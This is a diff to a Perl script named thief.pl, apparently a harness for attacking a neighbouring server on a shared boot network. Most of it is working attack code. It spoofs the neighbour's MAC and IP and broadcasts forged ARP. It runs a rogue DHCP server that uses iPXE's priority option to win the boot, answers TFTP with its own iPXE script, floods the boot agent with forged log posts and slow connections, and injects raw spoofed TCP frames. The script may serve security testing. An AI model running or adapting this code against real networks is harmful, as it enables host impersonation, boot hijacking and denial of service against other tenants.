@@ -1,16 +1,21 @@
 #!/usr/bin/perl
 # What root on a leased server can try against a neighbour on the boot network.
 #   thief.pl FOLDER AGENT MAC ADDRESS [until=STATUS:CALL] [only=CALL] [seconds=N] [slow=N] [flood=CONNECTIONS] [posts=N]
-#     [claims] [answers]
+#     [frames=N] [claims] [answers]
 # Takes the neighbour's MAC and ADDRESS, on a card and in a network namespace of their own, so that root stays logged
 # in, and asks AGENT as the neighbour, and as itself, for all that a booting server may ask. Goes on until FOLDER/stop
-# exists, those seconds are over, or CALL was answered with STATUS, which it asks only as the neighbour for.
+# exists, those seconds are over, CALL was answered with STATUS, which it asks only as the neighbour for, or the posts
+# are made.
 #   only    makes that call and asks for the script, nothing else
 #   slow    holds so many requests open that never come to an end, a byte a round
-#   flood   posts pieces of a log over so many connections, as fast as they are answered; from when each of calls/ was
-#   posts   ends each connection's part of the flood when so many were posted over all of them
+#   flood   posts pieces of a log over so many connections, as fast as they are taken; from when each of calls/ was
+#           answered, or of its only call once
+#   posts   ends the flood, and all, when at least so many were posted over all connections
+#   frames  posts so many pieces of a log with no connection, each in a frame of the neighbour's card: where no answer
+#           comes back to it there is no connection, and nothing else can be posted
 #   claims  as itself it also says what only the agent and the neighbour may: ARP, DHCP, TFTP
-#   answers answers the neighbour, too, when that asks: by DHCP as its server, by TFTP with a script that idles
+#   answers answers the neighbour, too, when that asks: by DHCP as its server, which iPXE is to prefer to any other, and
+#           by TFTP with a script that idles
 # FOLDER: request.pem (a key of the thief's own, wrong for everybody) is there, and calls/NAME are more calls: a line
 # METHOD PATH, headers, an empty line, the body. "loot" gets a line "AS CALL STATUS COUNT" for each answer (STATUS
 # 0: none, or a frame that has no answer), bodies/AS-CALL-STATUS its last body, "token" the neighbour's boot token;
@@ -19,6 +24,7 @@ use strict;
 use warnings;
 use IO::Select;
 use IO::Socket::INET;
+use POSIX ':sys_wait_h';
 use Time::HiRes;
 
 my ($folder, $agent, $mac, $address, @ways) = @ARGV;
@@ -121,46 +127,101 @@ sub trickle {
   }
 }
 
-# Many requests at a time, over a connection that stays; what was answered is counted at the end.
+# One piece of a log, posted; all of one thief's are of one length.
+sub piece {
+  my ($token, $sequence) = @_;
+  my $body = "stolen $sequence\n";
+  return "POST /boot/$token/log?sequence=$sequence HTTP/1.1\r\nHost: $agent\r\nContent-Length: " . length($body)
+    . "\r\n\r\n$body";
+}
+
+# Many requests at a time, over a connection that stays. Those that a connection took before it was hung up count, with
+# what they were answered; they are told at the end.
 sub flood {
   my ($number) = @_;
-  my ($sequence, %answers) = ($number * 1_000_000);
-  my $last = $sequence + ($way{posts} // 900_000) / $way{flood};
-  while (goes_on() && $sequence < $last) {
+  my ($requests, $sequence, $posted, %answers) = (500, $number * 1_000_000, 0);
+  my $share = ($way{posts} // 900_000) / $way{flood};
+  while (goes_on() && $posted < $share) {
     my $token = text_of("$folder/token");
     my $to = $token ? connected($address, 2) : undef;
-    if (!$to) { Time::HiRes::sleep(0.5); next }
+    if (!$to) { Time::HiRes::sleep(0.1); next }
     my $ready = IO::Select->new($to);
-    while (goes_on() && $sequence < $last) {
-      my ($requests, $got, $answer) = (500, 0, '');
-      my $text = join '', map { my $body = "stolen " . ++$sequence . "\n";
-        "POST /boot/$token/log?sequence=$sequence HTTP/1.1\r\nHost: $agent\r\nContent-Length: " . length($body)
-          . "\r\n\r\n$body" } 1 .. $requests;
-      print $to $text;
+    while (goes_on() && $posted < $share) {
+      my $text = join '', map { piece($token, $sequence + $_) } 1 .. $requests;
+      my ($taken, $got, $answer) = (0, 0, '');
+      while ($taken < length $text) {
+        $taken += syswrite($to, $text, length($text) - $taken, $taken) // last;
+      }
+      my $made = int($taken / (length($text) / $requests));
       while ($got < $requests && $ready->can_read(3) && sysread($to, $answer, 65536, length $answer)) {
         $got = () = $answer =~ m{^HTTP/1.1 [0-9]+}mg;
       }
       $answers{$1}++ while $answer =~ m{^HTTP/1.1 ([0-9]+)}mg;
-      $answers{0} += $requests - $got;
+      $answers{0} += $made - $got if $made > $got;
+      $posted += $made;
+      $sequence += $requests;
       last if $got < $requests;
     }
   }
   told('stolen', 'flood', $_, undef, $answers{$_}) for sort keys %answers;
 }
 
+# The same where no connection comes about: what a frame can carry is said without one.
+sub flood_with_frames {
+  my $router;
+  # It is known from when anything was asked as itself.
+  until (($router) = `ip neighbour show $agent dev $nic` =~ /lladdr (\S+)/) {
+    return if !goes_on();
+    Time::HiRes::sleep(0.1);
+  }
+  my $head = bytes_of($router) . bytes_of($mac) . "\x08\x00";
+  my $token = text_of("$folder/token") || 'unknown';
+  my ($wire, $said) = (wire(0), 0);
+  for my $sequence (1_000_001 .. 1_000_000 + $way{frames}) {
+    my $port = 1024 + $sequence % 60_000;
+    my $frame = $head . tcp_packet($address, $agent, $port, 8480, $sequence, piece($token, $sequence));
+    # There is no room for it until others have left.
+    until (syswrite($wire, $frame)) { Time::HiRes::sleep(0.001) }
+    if (++$said == 1000 || $sequence == 1_000_000 + $way{frames}) {
+      told('stolen', 'flood-frame', 0, undef, $said);
+      $said = 0;
+      last if !goes_on();
+    }
+  }
+}
+
 sub goes_on { return !-e "$folder/stop" && time - $^T < $longest }
 
 sub bytes_of { my ($text) = @_; return pack 'H*', $text =~ tr/://dr }
 
-sub ip_packet {
-  my ($from, $to, $from_port, $to_port, $data) = @_;
-  my $udp = pack('n4', $from_port, $to_port, 8 + length $data, 0) . $data;
-  my @head = (0x4500, 20 + length $udp, 1, 0, 0x4011, 0, unpack('n2', inet_aton($from)), unpack('n2', inet_aton($to)));
-  my $sum = 0;
-  $sum += $_ for @head;
+# RFC 1071, of whole 16-bit words.
+sub checksum {
+  my $sum = unpack('%32n*', $_[0]);
   $sum = ($sum & 0xffff) + ($sum >> 16) for 1 .. 2;
-  $head[5] = ~$sum & 0xffff;
-  return pack('n10', @head) . $udp;
+  return ~$sum & 0xffff;
+}
+
+sub ip_packet {
+  my ($from, $to, $protocol, $data) = @_;
+  my @head = (0x4500, 20 + length $data, 1, 0, 0x4000 + $protocol, 0);
+  my $ends = inet_aton($from) . inet_aton($to);
+  $head[5] = checksum(pack('n6', @head) . $ends);
+  return pack('n6', @head) . $ends . $data;
+}
+
+sub udp_packet {
+  my ($from, $to, $from_port, $to_port, $data) = @_;
+  return ip_packet($from, $to, 17, pack('n4', $from_port, $to_port, 8 + length $data, 0) . $data);
+}
+
+# Acknowledges and pushes (RFC 9293, 3.1), as within a connection.
+sub tcp_packet {
+  my ($from, $to, $from_port, $to_port, $number, $data) = @_;
+  my @head = ($from_port, $to_port, $number, 1, 0x5018, 0xffff);
+  my $length = 20 + length $data;
+  my $ends = inet_aton($from) . inet_aton($to);
+  my $sum = checksum($ends . pack('n4N2n4', 6, $length, @head, 0, 0) . $data . "\0" x ($length % 2));
+  return ip_packet($from, $to, 6, pack('n2N2n4', @head, $sum, 0) . $data);
 }
 
 # Words of the agent and of the neighbour, said by this server's own card: nobody needs to have asked.
@@ -172,9 +233,9 @@ sub claim {
   my $me = inet_aton($own_ip);
   my @frames = (
     ['arp', $arp->($address)], ['arp', $arp->($agent)],
-    ['dhcp', $all . $own . "\x08\x00" . ip_packet($own_ip, '255.255.255.255', 67, 68, dhcp(2, 7, $card))],
-    ['tftp', $card . $own . "\x08\x00" . ip_packet($own_ip, $address, 69, 1024, pack('n2', 3, 1) . '#!ipxe')],
-    ['address', $all . $own . "\x08\x00" . ip_packet($address, $agent, 1024, 8480, 'as the neighbour')]);
+    ['dhcp', $all . $own . "\x08\x00" . udp_packet($own_ip, '255.255.255.255', 67, 68, dhcp(2, 7, $card))],
+    ['tftp', $card . $own . "\x08\x00" . udp_packet($own_ip, $address, 69, 1024, pack('n2', 3, 1) . '#!ipxe')],
+    ['address', $all . $own . "\x08\x00" . udp_packet($address, $agent, 1024, 8480, 'as the neighbour')]);
   my $wire = wire(0);
   for my $frame (@frames) {
     syswrite($wire, $frame->[1]);
@@ -191,13 +252,14 @@ sub wire {
   return $wire;
 }
 
-# A DHCP server's word (RFC 2131) for the neighbour's card: type 2 offers, 5 acknowledges; the boot file is here.
+# A DHCP server's word (RFC 2131) for the neighbour's card: type 2 offers, 5 acknowledges; the boot file is here. Option
+# 175 is iPXE's own (its dhcp.h): an offer of the highest priority, after which it waits for nobody else's boot file.
 sub dhcp {
   my ($type, $exchange, $card) = @_;
   my $me = inet_aton($own_ip);
   my @fixed = (2, 1, 6, 0, $exchange, 0, 0x8000, 0, inet_aton($address), $me, 0, $card, 'thief', 0x63825363);
   return pack('C4NnnNa4a4Na6x74a128N', @fixed) . "\x35\x01" . chr($type) . "\x36\x04$me\x33\x04\x00\x00\x02\x58"
-    . "\x01\x04\xff\xff\xff\x00\xff";
+    . "\x01\x04\xff\xff\xff\x00\xaf\x06\x01\x01\x7f\xb0\x01\x01\xff";
 }
 
 # Hears on the wire itself: what the neighbour's card says to all, the card that has its MAC address takes for an echo
@@ -223,11 +285,11 @@ sub answer {
     if ($to_port == 67 && $asked =~ /^\x01.{235}\x63\x82\x53\x63.*?\x35\x01([\x01\x03])/s) {
       my ($name, $answer) = $1 eq "\x01" ? ('offer', 2) : ('ack', 5);
       my $data = dhcp($answer, unpack('x4N', $asked), substr($asked, 28, 6));
-      syswrite($wire, "\xff" x 6 . $own . "\x08\x00" . ip_packet($own_ip, '255.255.255.255', 67, 68, $data));
+      syswrite($wire, "\xff" x 6 . $own . "\x08\x00" . udp_packet($own_ip, '255.255.255.255', 67, 68, $data));
       told('own', "answer-$name", 0);
     } elsif ($to_port == 69 && $asked =~ /^\x00\x01/ && substr($frame, 0, 6) eq $own) {
-      my $script = pack('n2', 3, 1) . "#!ipxe\n:again\nsleep 60\ngoto again\n";
-      syswrite($wire, $card . $own . "\x08\x00" . ip_packet($own_ip, $address, 69, $from_port, $script));
+      my $script = pack('n2', 3, 1) . "#!ipxe\necho a neighbour's script\n:again\nsleep 60\ngoto again\n";
+      syswrite($wire, $card . $own . "\x08\x00" . udp_packet($own_ip, $address, 69, $from_port, $script));
       told('own', 'answer-tftp', 0);
     }
   }
@@ -238,13 +300,14 @@ sub as_the_neighbour {
   for (my $round = 1; goes_on(); $round++) {
     last if ask('stolen', $address, $round);
     # Not before: a flood uses up what the agent lets this source ask.
-    my $waits = @children || grep { !$answered{ $_->[0] } } more_calls();
+    my $waits = @children || !$way{only} && grep { !$answered{ $_->[0] } } more_calls();
     for my $number ($waits ? () : 1 .. $way{flood} // 0) {
       my $child = fork() // die "fork: $!\n";
       if (!$child) { flood($number); exit 0 }
       push @children, $child;
     }
     trickle();
+    last if $way{posts} && @children && !grep { waitpid($_, WNOHANG) == 0 } @children;
     Time::HiRes::sleep(0.5);
   }
   waitpid $_, 0 for @children;
@@ -273,7 +336,7 @@ run('ip', 'link', 'add', 'link', $nic, @card);
 run('ip', '-n', 'thief', 'address', 'add', "$address/24", 'dev', 'stolen');
 run('ip', '-n', 'thief', 'link', 'set', 'stolen', 'up');
 my @others;
-for my $part (\&as_itself, $way{answers} ? \&answer : ()) {
+for my $part (\&as_itself, $way{answers} ? \&answer : (), $way{frames} ? \&flood_with_frames : ()) {
   my $child = fork() // die "fork: $!\n";
   if (!$child) { $part->(); exit 0 }
   push @others, $child;
